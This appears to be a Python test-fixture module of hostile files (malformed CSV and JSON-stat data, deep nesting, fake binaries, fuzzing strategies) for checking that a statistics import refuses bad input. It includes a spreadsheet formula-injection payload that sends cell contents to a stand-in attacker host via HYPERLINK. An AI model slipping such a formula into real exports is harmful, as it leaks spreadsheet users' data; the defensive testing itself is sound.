"""Hostile files for the statistics import, shared by the doors that take them: the web upload
and the import service (``tests/apps/insight/test_hostile_import.py``) and the ``losen
indicators import`` command (``tests/cli/test_indicators_hostile_cli.py``).

Each door words its refusal in its own way, so a test pairs the payloads here with the
fragment of its own message; the payloads themselves are one list.
"""

from __future__ import annotations

import json
from collections.abc import Iterable

from hypothesis import strategies as st

from tests.domain.indicators.hostile_files import random_bytes

HEADER = "kilde;tabell;indikatorkode;indikatornavn;regionkode;periode;verdi;status;enhet\n"


def template(*rows: str) -> bytes:
    """The import template (CSV) with *rows* below its header."""
    return (HEADER + "".join(row + "\n" for row in rows)).encode("utf-8")


def cube(values, regions: Iterable[str] = ("0301",)) -> bytes:
    """A JSON-stat 2.0 cube of table 12345: *regions* × one content × 2023 and 2024."""
    regions = list(regions)
    return json.dumps(
        {
            "version": "2.0",
            "class": "dataset",
            "label": "12345: Test",
            "source": "Statistisk sentralbyrå",
            "id": ["Region", "ContentsCode", "Tid"],
            "size": [len(regions), 1, 2],
            "dimension": {
                "Region": {"category": {"index": {r: i for i, r in enumerate(regions)}}},
                "ContentsCode": {"category": {"index": {"Personer": 0}}},
                "Tid": {"category": {"index": {"2023": 0, "2024": 1}}},
            },
            "value": values,
        }
    ).encode()


DEEP_JSON = b'{"version": "2.0", "a": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"

#: The probe's payloads: name → the file's bytes.
HOSTILE_FILES: dict[str, bytes] = {
    "random bytes": random_bytes(1024 * 1024),
    "NUL in a label": template("lokal;t;a;A\x00B;0301;2024;1;;"),
    "nested 100 000 deep": DEEP_JSON,
    "lone surrogate": cube([1, 2]).replace(b"Personer", b"\\ud800"),
    "5000-digit number": cube([1, 2]).replace(b"[1, 2]", b"[1, " + b"9" * 5000 + b"]"),
    "region 9999": template("lokal;t;a;A;9999;2024;1;;"),
    "region abc": template("lokal;t;a;A;abc;2024;1;;"),
    "region -1": template("lokal;t;a;A;-1;2024;1;;"),
    "UTF-16": template("lokal;t;a;A;0301;2024;1;;").decode().encode("utf-16"),
    "three columns": b"regionkode;periode;verdi\n0301;2024;1\n",
    "fake XLSX": b"PK\x03\x04" + b"\x00" * 100,
    "a program": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200,
}

#: A label that is a spreadsheet formula, and a template row with it and an ``@`` status.
FORMULA = '=HYPERLINK("https://angriper.example/?"&A1,"Klikk")'
FORMULA_ROW = (
    'lokal;L1;a;"=HYPERLINK(""https://angriper.example/?""&A1,""Klikk"")";0301;2024;-12.5;;@SUM(A1)'
)


def import_files(cells: st.SearchStrategy[str], *, key: str, max_leaves: int):
    """Random files for the import: bytes, template rows of *cells*, or JSON-stat-like
    documents with random content under *key*."""
    return (
        st.binary(max_size=3000)
        | st.lists(st.lists(cells, max_size=10), max_size=6).map(
            lambda rows: "\n".join([HEADER.strip()] + [";".join(r) for r in rows]).encode(
                "utf-8", "surrogatepass"
            )
        )
        | st.recursive(
            st.none() | st.integers() | st.floats() | cells,
            lambda c: st.lists(c, max_size=4) | st.dictionaries(cells, c, max_size=4),
            max_leaves=max_leaves,
        ).map(lambda doc: json.dumps({"version": "2.0", key: doc}).encode("utf-8", "surrogatepass"))
    )
